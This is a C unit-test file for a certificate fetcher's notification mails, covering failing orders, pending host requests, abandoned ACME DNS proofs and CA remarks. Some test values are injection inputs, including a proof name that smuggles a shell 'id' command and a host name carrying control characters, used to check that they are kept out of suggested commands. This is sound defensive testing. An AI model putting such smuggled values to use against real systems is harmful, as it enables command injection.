	add("a.example.org", FAILING ", count_fail_update = 0, fail_class = "
				     "'parked', fail_detail = '\"no order\" "
				     "(status 404, malformed)'");
	has(mailed(NOW), "(status 404, malformed) So the CA answers where its "
			 "order is asked for, which was finalized there. If "
			 "it lasts, the command below lets it go, for a new "
			 "one. To try at once: certrepo-fetcher --once --force "
			 "a.example.org");
	lacks(kept(), "takes its time");
}

/* One that is no longer tried is not over: it is still there. */
/* Of hosts. None of what they write is believed. */
static void requests(void **state)
{
	const char *mail;

	lacks(mailed(NOW), "requests of hosts");
	sql("INSERT INTO host_requests (account, host, name, csr, key_sha256, "
	    "state, ts) VALUES ('', 'web1', 'a.example.org', 'x', 'x', "
	    "'rejected', 1), ('', 'web1' || char(10) || char(27) || '\"x', "
	    "'b.example.org', 'x', 'y', 'pending', 1), ('', 'web2', "
	    "'c.example.org', 'x', 'z', 'pending', 1)");
	/* A rule may take it. */
	assert_string_equal(mailed(NOW), "");
	assert_string_equal(mailed(NOW + 3600), "");
	mail = mailed(NOW + 7201);
	has(mail, "requests of hosts: waiting since 2023-11-14T22:13:20Z 2 "
		  "wait for a person to approve or reject; the first is 2, of "
		  "\"web1?\?'x\" for \"b.example.org\"");
	has(mail, " certrepo-populate pending ");
	/* Another one is no other matter. */
	sql("UPDATE host_requests SET state = 'pending'");
	assert_string_equal(mailed(NOW + 10800), "");
	has(mailed(NOW + DAY + 7260), "3 wait for a person");
	sql("UPDATE host_requests SET state = 'approved'");
	has(mailed(NOW + DAY + 7320), "1 matter is over (requests of hosts)");
}

static void proof_given_up(void **state)
{
	struct store_proofs before;
	const char *mail;

	add_proof("1", "me", "_acme-challenge.n1.example.org", NOW - 8 * DAY);
	OK(notify_proofs_before(store, "me", arena, &before, &err));
	sql("DELETE FROM proofs");
	from.proofs = &before;
	(void) mailed(NOW);
	mail = read_mail(true);
	has(mail, "proofs of control: given up since ");
	has(mail, "\n        printf 'update delete "
		  "_acme-challenge.n1.example.org. TXT \"v\"\\nsend\\n' | "
		  "nsupdate\n");
	from.proofs = NULL;
	assert_string_equal(mailed(NOW + 60), "");
	/* A row that is none of ours is in no command. */
	add_proof("2", "me", "_acme-challenge.n1'; id; '", NOW - 2 * DAY);
	(void) mailed(NOW + 120);
	lacks(read_mail(true), "update delete");
	has(kept(), "1 new matter (proofs of control)");
}

/* Another way to be turned away is another thing to do. */
static void store_refuses_otherwise(void **state)
{
	struct err why = { ERR_CONFIG, "db.example.org: wrong password" };

	OK(notify_run(&from, NULL, &why, NOW, &err));
	OK(notify_run(&from, NULL, &why, NOW + 3 * 3600, &err));
	has(kept(), "1 new matter");
	snprintf(why.msg, sizeof(why.msg), "db.example.org: no such database");
	OK(notify_run(&from, NULL, &why, NOW + 4 * 3600, &err));
	has(kept(), "1 matter has changed");
	/* One that may be read, and no more: who waits is known. */
	add("a.example.org", HELD);
	(void) unlink(path("mail"));
	OK(notify_run(&from, store, &why, NOW + 5 * 3600, &err));
	has(kept(), "1 new matter (a.example.org)");
	lacks(kept(), "over");
}

/* It says why, and the next run tries again. */
static void not_handed_over(void **state)
{
	add("a.example.org", FAILING);
	put("fails", "");
	err_clear(&err);
	assert_int_equal(notify_run(&from, store, NULL, NOW, &err), -1);
	has(err.msg, "what needs a person could not be told, see "
		     "certrepo-populate list: mail of notify: ");
	(void) unlink(path("fails"));
	has(mailed(NOW + 60), "1 new matter (a.example.org)");
}

/* Nobody is to be told: the old way, by a line a day. */
static void without_notify(void **state)
{
	add("a.example.org", HELD);
	OK(held_report(&from, store, NOW, &err));
	assert_int_equal(access(path("fetcher.held"), F_OK), -1);
	configure("");
	assert_string_equal(mailed(NOW), "");
	assert_int_equal(access(path("notices"), F_OK), -1);
	OK(held_report(&from, store, NOW, &err));
	assert_int_equal(access(path("fetcher.held"), F_OK), 0);
	(void) unlink(path("fetcher.held"));
}

/* What happened in a run is told of that run, and once. */
static void remarks(void **state)
{
	const char *mail;

	remark_warn(NOTICE_WINDOW, "le", "https://le.example/1",
		    "it wants 2 certificates renewed at once");
	remark_warn(NOTICE_BINDING, "own", "kid-2", "it stays bound");
	mail = mailed(NOW);
	assert_non_null(strstr(mail, "2 new matters (CA le, CA own)"));
	assert_non_null(strstr(mail,
			       "CA le: incident it wants 2 certificates "
			       "renewed at once Each is renewed by itself. "
			       "Which hosts have not got theirs yet: "
			       "certrepo-populate show NAME"));
	assert_non_null(strstr(mail, "CA own: other-binding it stays bound"));
	remark_clear();
	/* nothing is over because it did not happen again */
	assert_string_equal(mailed(NOW + 3600), "");
	/* again, and once more for another reason */
	remark_warn(NOTICE_WINDOW, "le", "https://le.example/1", "once more");
	assert_string_equal(mailed(NOW + 7200), "");
	remark_clear();
	remark_warn(NOTICE_WINDOW, "le", "https://le.example/2", "it wants 1");
	assert_non_null(
		strstr(mailed(NOW + 10800), "1 matter has changed (CA le)"));
	remark_clear();
	/* much later it is a new one */
	assert_string_equal(mailed(NOW + 8 * DAY), "");
	remark_warn(NOTICE_WINDOW, "le", "https://le.example/1", "it wants 9");
	assert_non_null(strstr(mailed(NOW + 9 * DAY), "1 new matter (CA le)"));
	remark_clear();
}

/* A store that is away takes nothing from it. */
static void remarks_without_store(void **state)
{
	struct err away = ERR_INIT;

	(void) err_set(&away, ERR_UNAVAILABLE, "gone");
	remark_warn(NOTICE_DIRECTORY, "own", "https://b", "it is another");
	(void) unlink(path("mail"));
	OK(notify_run(&from, NULL, &away, NOW, &err));
	assert_non_null(strstr(kept(), "CA own: changed it is another"));
	remark_clear();
}

int main(void)
{
#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
	static const struct CMUnitTest tests[] = {
		TEST(near_end),
		TEST(wanted),
		TEST(advice),
		TEST(advice_words),
		TEST(advice_exact),
		TEST(to_copy),
		TEST(parked),
		TEST(from_new_to_over),
		TEST(no_false_over),
		TEST(many),
		TEST(cas),
		TEST(cas_at_once),
		TEST(wrong_clock),
		TEST(leases),
		TEST(store_away),
		TEST(store_refuses),
		TEST(proofs),
		TEST(requests),
		TEST(nobody_comes),
		TEST(nobody_comes_again),
		TEST(nobody_comes_to_a_new_one),
		TEST(soonest_first),
		TEST(held_again),
		TEST(another_store),
		TEST(no_foreign_commands),
		TEST(another_host_of_it),
		TEST(since_it_failed),
		TEST(parked_unknown),
		TEST(proof_given_up),
		TEST(store_refuses_otherwise),
		TEST(not_handed_over),
		TEST(without_notify),
		TEST(remarks),
		TEST(remarks_without_store),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
